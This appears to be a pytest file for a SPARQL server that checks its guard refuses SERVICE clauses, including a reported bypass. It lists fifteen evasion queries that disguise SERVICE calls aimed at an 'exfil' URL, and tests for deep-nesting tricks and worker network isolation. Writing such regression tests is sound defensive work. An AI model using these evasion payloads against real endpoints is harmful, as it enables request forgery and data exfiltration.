"""SERVICE stays closed (issue 18): evasions of the token guard, tried against a live endpoint with
a loopback listener that counts every connection, and the network isolation behind the guard."""
from __future__ import annotations

import socket
import threading

import pytest
import requests

from mineralgraph.server import querytext

EXFIL = "http://127.0.0.1:{port}/exfil"

# Each hides or disguises a SERVICE clause; {t} is the listener's URL. Every one must be refused.
EVASIONS = {
    "escaped hash in a prefixed name (the reported bypass)":
        r"PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\#b AS ?z) SERVICE <{t}> { ?leak ?p ?o } }",
    "less-than read as an IRI up to a comment":
        "SELECT * WHERE { ?a ?b ?c FILTER(?a<?b)SERVICE <{t}>#>\n{ ?s ?p ?o } }",
    "the same with the target in a variable":
        "SELECT * WHERE { BIND(<{t}> AS ?e) ?a ?b ?c FILTER(?a<?b)SERVICE?e#>\n{ ?s ?p ?o } }",
    "collection IRI with a hash, then the less-than trick":
        "SELECT * WHERE { ?s ?p (?a <x:#>) FILTER(?a<?b)SERVICE <{t}>#>\n{ ?s ?p ?o } }",
    "mixed case and SILENT": "select * { sErViCe SiLeNt <{t}> { ?s ?p ?o } }",
    "comments between the keyword and its target":
        "SELECT * { SERVICE#x\n<{t}>#y\n{ ?s ?p ?o } }",
    "no whitespace at all": "SELECT*{FILTER(?a<?b)SERVICE<{t}>{?s ?p ?o}}",
    "prefixed target": "PREFIX e: <{t}/> SELECT * { SERVICE e:x { ?s ?p ?o } }",
    "escaped quote in a string before it":
        'SELECT * { BIND("a\\"#" AS ?x) SERVICE <{t}> { ?s ?p ?o } }',
    "quotes inside a long string before it":
        "SELECT * { BIND('''a'' ' # ''' AS ?x) SERVICE <{t}> { ?s ?p ?o } }",
    "percent escape in a prefixed name":
        "PREFIX ex: <http://e/> SELECT * { BIND(ex:a%23b AS ?z) SERVICE <{t}> { ?s ?p ?o } }",
    "inside FILTER EXISTS": "SELECT * { ?s ?p ?o FILTER EXISTS { SERVICE <{t}> { ?a ?b ?c } } }",
    "deep inside OPTIONAL and groups": "SELECT * { { { OPTIONAL { SERVICE <{t}> { ?s ?p ?o } } } } }",
    "after a language tag": 'SELECT * { BIND("x"@en AS ?l) SERVICE<{t}>{?s ?p ?o} }',
    "in a subquery": "SELECT * { { SELECT * WHERE { SERVICE <{t}> { ?s ?p ?o } } } }",
}

# Legitimate queries that mention the word: none may be refused.
LEGIT = [
    'SELECT ?service WHERE { ?s <http://example.org/service> "SERVICE" } # SERVICE <http://x/> { }',
    "SELECT * WHERE { ?s <http://x/SERVICE> ?o }",
    "PREFIX service: <http://s/> SELECT * WHERE { ?s service:service ?o }",
    "SELECT * WHERE { ?s ?p ?o FILTER(?o < 3) } LIMIT 1",
    r"PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\#b AS ?z) }",
]


class Listener:
    """A TCP listener on loopback that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_every_evasion_is_seen_as_service(name):
    assert querytext.uses_service(EVASIONS[name].replace("{t}", "http://x/"))


@pytest.mark.parametrize("query", LEGIT)
def test_the_word_alone_is_not_a_service_clause(query):
    assert not querytext.uses_service(query)


def test_the_reported_bypass_and_every_evasion_get_400_and_reach_no_listener(live, listener):
    target = EXFIL.format(port=listener.port)
    for name, template in EVASIONS.items():
        query = template.replace("{t}", target)
        for method in ("get", "post"):
            r = (requests.get(live.sparql, params={"query": query}, timeout=10) if method == "get"
                 else requests.post(live.sparql, data=query.encode(),
                                    headers={"Content-Type": "application/sparql-query"}, timeout=10))
            assert r.status_code == 400, (name, method, r.status_code, r.text[:200])
            assert "SERVICE" in r.text, name
    assert listener.connections == 0


def test_nesting_hidden_from_a_context_free_lexer_is_refused(live):
    # 125,000 brackets after the escaped-hash trick passed the old guard (issue 18).
    deep = r"PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\#b AS ?z) " + "(" * 125_000 + "}"
    r = requests.post(live.sparql, data=deep.encode(), headers={"Content-Type": "application/sparql-query"})
    assert r.status_code == 400 and "nests" in r.text
    hidden = "SELECT * WHERE { ?a ?b ?c FILTER(?a<?b)" + "(" * 1000 + "#>\n}"
    assert requests.post(live.sparql, data=hidden.encode(),
                         headers={"Content-Type": "application/sparql-query"}).status_code == 400


def test_workers_have_no_network_even_if_a_query_got_past_the_guard(live, listener):
    # Straight to the pool, as if the guard had missed it: the worker's connect() must fail.
    from mineralgraph.store.evaluate import Query

    service = live.app.extensions["mineralgraph"].service
    query = f"SELECT * WHERE {{ SERVICE <{EXFIL.format(port=listener.port)}> {{ ?s ?p ?o }} }}"
    answer, _ = service.pool.run(Query(text=query, formats={"solutions": "json"}, cap=10), 10)
    assert answer.get("error"), answer
    assert "unreachable" in answer["message"].lower() or "network" in answer["message"].lower(), answer
    assert listener.connections == 0


def test_depth_and_dataset_are_read_from_tokens_not_text():
    reading = querytext.read('SELECT * FROM <http://g/(((> WHERE { ?s ?p "(((" } # (((')
    assert reading.has_from and reading.depth == 1 and reading.service_at is None
    assert not querytext.read("SELECT ?from WHERE { ?s <http://x/from> ?from }").has_from


def test_allow_service_opens_both_the_guard_and_the_network(start_server, dist_dir, listener):
    federating = start_server(dist_dir, allow_service=True)
    query = f"SELECT * WHERE {{ SERVICE SILENT <{EXFIL.format(port=listener.port)}> {{ ?s ?p ?o }} }}"
    r = requests.get(federating.sparql, params={"query": query}, timeout=20)
    assert r.status_code == 200, r.text[:300]
    assert listener.connections >= 1  # the switch is real: the worker did reach the listener


def _shape_by_full_reading(text: str):
    """check_shape's verdict from the full reading alone (no character-count shortcut)."""
    try:
        return querytext.check_shape(text, querytext.read(text))
    except querytext.QueryTooComplex:
        return "refused"


def test_the_character_count_shortcut_agrees_with_the_full_reading():
    # check_shape skips the full reading when counting characters proves its outcome; on the
    # stored queries, the evasions, the legitimate look-alikes and texts at the limits, the
    # verdict (refused, SERVICE, FROM) must be the one the full reading gives.
    from mineralgraph.storedqueries import query_dir

    texts = [p.read_text(encoding="utf-8") for p in sorted(query_dir().rglob("*.rq"))]
    assert len(texts) > 20
    texts += [t.replace("{t}", "http://x/") for t in EVASIONS.values()] + LEGIT
    depth, run = querytext.MAX_DEPTH, querytext.MAX_PREFIX_RUN
    texts += ["SELECT * {" + "{" * (depth - 1) + "}" * depth, "SELECT * {" + "{" * depth + "}" * (depth + 1),
              "ASK { FILTER(" + "!" * run + "true) }", "ASK { FILTER(" + "!" * (run + 1) + "true) }",
              "SELECT * WHERE { ?s <x:from> ?o }", "select * from <x:g> { ?s ?p ?o }"]
    shortcuts = 0
    for text in texts:
        full = _shape_by_full_reading(text)
        try:
            fast = querytext.check_shape(text)
        except querytext.QueryTooComplex:
            fast = "refused"
        assert (fast == "refused") == (full == "refused"), text
        if fast != "refused":
            assert (fast.service_at is None) == (full.service_at is None), text
            assert fast.has_from == full.has_from, text
            shortcuts += fast == querytext.Reading() and full != querytext.Reading()
    assert shortcuts > 10  # the shortcut is taken for ordinary queries
